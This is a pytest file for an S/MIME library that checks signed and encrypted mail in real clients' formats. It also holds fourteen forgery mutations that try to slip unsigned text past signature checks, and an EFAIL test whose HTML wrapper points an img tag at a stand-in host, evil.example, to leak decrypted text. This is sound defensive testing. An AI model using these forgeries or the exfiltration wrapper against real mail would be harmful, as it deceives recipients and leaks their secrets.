"""Signed and encrypted mail in the shapes programs really send it, and in shapes made to deceive.

The shapes are written out as templates: what matters is where boundaries, names, parameters and line ends
stand. An attack succeeds when the verdict is `valid` and something unsigned would be drawn.
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

import pytest
from smime_fixtures import (
    HEAD,
    PAYLOAD,
    Authority,
    Envelope,
    Signing,
    base64,
    detached,
    judge,
    opaque,
    rsa_key,
    signed_data,
    signed_mail,
    word,
)

import smime
from smime.encryption import enveloped
from smime.mime import canonical

if TYPE_CHECKING:
    from collections.abc import Callable

EVIL = b"Content-Type: text/plain\r\n\r\nPay the forger.\r\n"


@pytest.fixture(scope="module")
def root() -> Authority:
    return Authority.root()


@pytest.fixture(scope="module")
def signer(root: Authority) -> Signing:
    return Signing(root.person())


# -- programs


def lines(text: str) -> bytes:
    """Return a template with CRLF."""
    return text.removeprefix("\n").replace("\n", "\r\n").encode()


APPLE = lines("""
Content-Type: multipart/signed;
\tboundary="Apple-Mail=_8D0E4F2B";
\tprotocol="application/pkcs7-signature";
\tmicalg=sha-256


--Apple-Mail=_8D0E4F2B
{payload}
--Apple-Mail=_8D0E4F2B
Content-Disposition: attachment;
\tfilename=smime.p7s
Content-Type: application/pkcs7-signature;
\tname=smime.p7s
Content-Transfer-Encoding: base64

{signature}
--Apple-Mail=_8D0E4F2B--
""")
THUNDERBIRD = lines("""
Content-Type: multipart/signed; protocol="application/pkcs7-signature"; boundary="------------ms0901"

This is a cryptographically signed message in MIME format.

--------------ms0901
{payload}
--------------ms0901
Content-Type: application/pkcs7-signature; name="smime.p7s"
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename="smime.p7s"
Content-Description: S/MIME Cryptographic Signature

{signature}
--------------ms0901--
""")
OUTLOOK = lines("""
Content-Type: multipart/signed;
\tprotocol="application/x-pkcs7-signature";
\tmicalg=2.16.840.1.101.3.4.2.1;
\tboundary="----=_NextPart_000_0001_01D9"
X-Mailer: Microsoft Outlook 16.0

This is a multipart message.

------=_NextPart_000_0001_01D9
{payload}
------=_NextPart_000_0001_01D9
Content-Type: application/x-pkcs7-signature;
\tname="smime.p7s"
Content-Transfer-Encoding: base64
Content-Disposition: attachment;
\tfilename="smime.p7s"

{signature}
------=_NextPart_000_0001_01D9--
""")
BARE = lines("""
content-type: Multipart/Signed; Boundary=x; PROTOCOL=application/pkcs7-signature

--x
{payload}
--x
CONTENT-TYPE: APPLICATION/PKCS7-SIGNATURE
content-transfer-encoding: BASE64

{signature}
--x--""")
COMMENTED = lines("""
Content-Type: multipart/signed (a "signed" mail); boundary=x (edge); protocol="application/pkcs7-signature"

--x\x20\x20
{payload}
--x\t
Content-Type: application/pkcs7-signature
Content-Transfer-Encoding: base64 (as usual)

{signature}
--x--\x20

list footer
""")
SHAPES = {
    "apple": APPLE,
    "thunderbird": THUNDERBIRD,
    "outlook": OUTLOOK,
    "bare": BARE,
    "commented": COMMENTED,
}
PAYLOADS = {
    "text": PAYLOAD,
    "no fields": b"\r\nJust text.\r\n",
    "trailing blanks": b"Content-Type: text/plain\r\n\r\nline  \r\n\t\r\n-- \r\nAlice\r\n\r\n\r\n",
    "no last line end": b"Content-Type: text/plain\r\n\r\nno end",
    "dashes": b"Content-Type: text/plain\r\n\r\n--\r\n--not a boundary\r\n--xy\r\n",
    "folded field": b"Content-Type: text/plain;\r\n charset=us-ascii\r\n\r\nx\r\n",
    "multipart": (
        b"Content-Type: multipart/alternative; boundary=in\r\n\r\n"
        b"--in\r\nContent-Type: text/plain\r\n\r\na\r\n"
        b"--in\r\nContent-Type: text/html\r\n\r\n<p>a</p>\r\n--in--\r\n"
    ),
    "japanese": b"Content-Type: text/plain; charset=iso-2022-jp\r\n\r\n\x1b$B$3$s$K$A$O\x1b(B\r\n",
    "eight bits": "Content-Type: text/plain; charset=utf-8\r\n\r\nこんにちは\r\n".encode(),
    "header only": b"Content-Type: text/plain\r\n\r\n",
}


def filled(shape: bytes, payload: bytes, signature: bytes) -> bytes:
    return shape.replace(b"{payload}", payload).replace(b"{signature}", base64(signature).rstrip())


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("shape", SHAPES)
def test_the_shapes_of_programs(root: Authority, signer: Signing, shape: str, payload: str) -> None:
    content = PAYLOADS[payload]
    mail = HEAD + filled(SHAPES[shape], content, signed_data(content, signer))
    verdict = judge(mail, root)
    assert word(verdict) == ("valid", "ok")
    assert verdict.content == content
    body = content.partition(b"\r\n\r\n")[2] if payload != "no fields" else content[2:]
    assert verdict.message.endswith(b"\r\n\r\n" + body)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_same_with_bare_line_feeds(root: Authority, signer: Signing, payload: str) -> None:
    content = PAYLOADS[payload]
    mail = HEAD + filled(THUNDERBIRD, content, signed_data(content, signer))
    verdict = judge(mail.replace(b"\r\n", b"\n"), root)
    assert word(verdict) == ("valid", "ok")
    assert verdict.content == canonical(content)


OPAQUE_TYPES = [
    b"application/pkcs7-mime; smime-type=signed-data; name=smime.p7m",
    b"application/x-pkcs7-mime; smime-type=signed-data; name=smime.p7m",
    b'application/pkcs7-mime; name="smime.p7m"',
    b'application/octet-stream; name="smime.p7m"',
    b"APPLICATION/PKCS7-MIME;SMIME-TYPE=SIGNED-DATA",
    b"application/pkcs7-mime; smime-type=signed-receipt",
]


@pytest.mark.parametrize("kind", OPAQUE_TYPES)
@pytest.mark.parametrize("encoding", [b"base64", b"binary"])
def test_the_names_of_opaque_signatures(
    root: Authority, signer: Signing, kind: bytes, encoding: bytes
) -> None:
    data = signed_data(PAYLOAD, signer, envelope=Envelope(content=PAYLOAD))
    body = base64(data) if encoding == b"base64" else data
    head = b"Content-Type: " + kind + b"\r\nContent-Transfer-Encoding: " + encoding + b"\r\n\r\n"
    verdict = judge(HEAD + head + body, root)
    assert word(verdict) == ("valid", "ok")
    assert verdict.content == PAYLOAD


@pytest.mark.parametrize(
    "kind",
    [
        b"application/pkcs7-mime; smime-type=enveloped-data",
        b"application/x-pkcs7-mime; smime-type=enveloped-data",
        b"application/pkcs7-mime; smime-type=authEnveloped-data",
        b"application/pkcs7-mime",
        b"application/octet-stream; name=smime.p7m",
        b"application/pkcs7-mime; smime-type=signed-data",
    ],
)
def test_the_names_of_encrypted_mail(root: Authority, kind: bytes) -> None:
    me = root.person("fax@fax.example.org", rsa_key("gateway"))
    data = enveloped(PAYLOAD, [me.certificate], "aes128-cbc")
    mail = HEAD + b"Content-Type: " + kind + b"\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64(data)
    assert smime.decrypt(mail, identities=[me]).content == PAYLOAD


# -- made to deceive


def wrapped(*parts: bytes) -> bytes:
    body = b"".join(b"--outer\r\n" + part + b"\r\n" for part in parts)
    return HEAD + b"Content-Type: multipart/mixed; boundary=outer\r\n\r\n" + body + b"--outer--\r\n"


def inner_text(mail: bytes) -> bytes:
    return mail.removeprefix(HEAD)


def in_front(mail: bytes) -> bytes:
    return mail.replace(b"This is a signed message.\r\n", b"Pay the forger.\r\n", 1)


def first_part_twice(mail: bytes) -> bytes:
    return mail.replace(b"\r\n--=_edge\r\n", b"\r\n--=_edge\r\n" + EVIL + b"\r\n--=_edge\r\n", 1)


def second_content_type(mail: bytes) -> bytes:
    return mail.replace(
        b"Content-Type: multipart/signed", b"Content-Type: text/plain\r\nContent-Type: multipart/signed", 1
    )


def second_boundary(mail: bytes) -> bytes:
    return mail.replace(b'boundary="=_edge"', b'boundary=evil; boundary="=_edge"', 1)


def evil_after(mail: bytes) -> bytes:
    return mail.replace(b"A footer.\r\n", b"--=_edge\r\n" + EVIL + b"--=_edge--\r\n", 1)


def boundary_inside(mail: bytes) -> bytes:
    return mail.replace(b"Please call back.", b"Please\r\n--=_edge\r\n" + EVIL, 1)


def longer_boundary(mail: bytes) -> bytes:
    return mail.replace(b"--=_edge\r\n", b"--=_edgex\r\n" + EVIL + b"\r\n--=_edge\r\n", 1)


def beside(mail: bytes) -> bytes:
    return wrapped(EVIL, inner_text(mail))


def behind(mail: bytes) -> bytes:
    return wrapped(inner_text(mail), EVIL)


def attached(mail: bytes) -> bytes:
    return wrapped(EVIL, b"Content-Type: message/rfc822\r\n\r\n" + mail)


def evil_charset(mail: bytes) -> bytes:
    return mail.replace(b"charset=us-ascii", b"charset=utf-7!!", 1)


def evil_encoding(mail: bytes) -> bytes:
    return mail.replace(
        b"Content-Type: text/plain; charset", b"Content-Transfer-Encoding: base64\r\nX: y; charset", 1
    )


def swapped(mail: bytes) -> bytes:
    head, first, second, tail = mail.split(b"--=_edge", 3)
    return b"--=_edge".join([head, second, first, tail])


def folded_away(mail: bytes) -> bytes:
    return mail.replace(
        b"Content-Type: multipart/signed", b"Content-Type: text/plain\r\n X: multipart/signed", 1
    )


ATTACKS: list[Callable[[bytes], bytes]] = [
    in_front,
    first_part_twice,
    second_content_type,
    second_boundary,
    evil_after,
    boundary_inside,
    longer_boundary,
    beside,
    behind,
    attached,
    evil_charset,
    evil_encoding,
    swapped,
    folded_away,
]


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.__name__)
def test_nothing_unsigned_is_drawn_under_a_valid_verdict(
    root: Authority, signer: Signing, attack: Callable[[bytes], bytes]
) -> None:
    mail = signed_mail(signer)
    deceiving = attack(mail)
    assert deceiving != mail
    verdict = judge(deceiving, root)
    if verdict.valid:
        assert verdict.content == PAYLOAD
        assert b"forger" not in verdict.message
    else:
        assert word(verdict)[0] in {"invalid", "malformed", "partial", "none"}


def test_a_signature_moved_to_another_mail_is_invalid(root: Authority, signer: Signing) -> None:
    other = detached(EVIL, signed_data(PAYLOAD, signer))
    assert word(judge(other, root)) == ("invalid", "digest_mismatch")


def test_an_attribute_for_another_digest_is_invalid(root: Authority) -> None:
    who = root.person()
    longer = Signing(who, digest_value=bytes(64))
    assert word(judge(signed_mail(longer), root)) == ("invalid", "digest_mismatch")


def test_the_outer_subject_can_change_the_verdict_says_so_by_its_protection(
    root: Authority, signer: Signing
) -> None:
    mail = signed_mail(signer).replace(b"order /rs", b"order /b")
    verdict = judge(mail, root)
    assert verdict.valid
    assert verdict.protection is smime.Protection.NONE
    assert b"order /b" in verdict.message


def test_efail_the_text_around_a_ciphertext_never_meets_its_plaintext(root: Authority) -> None:
    me = root.person("fax@fax.example.org", rsa_key("gateway"))
    secret = opaque(enveloped(PAYLOAD, [me.certificate], "aes256-cbc"), "enveloped-data", b"")
    start = b'Content-Type: text/html\r\n\r\n<img src="http://evil.example/'
    mail = wrapped(start, secret, b'Content-Type: text/html\r\n\r\n">')
    verdict = judge(mail, root, identities=[me])
    assert (verdict.encryption.value, verdict.message, verdict.content) == ("partial", b"", b"")


def test_the_shapes_hold_no_leftover_marks() -> None:
    for shape in SHAPES.values():
        assert set(re.findall(rb"\{\w+\}", shape)) == {b"{payload}", b"{signature}"}
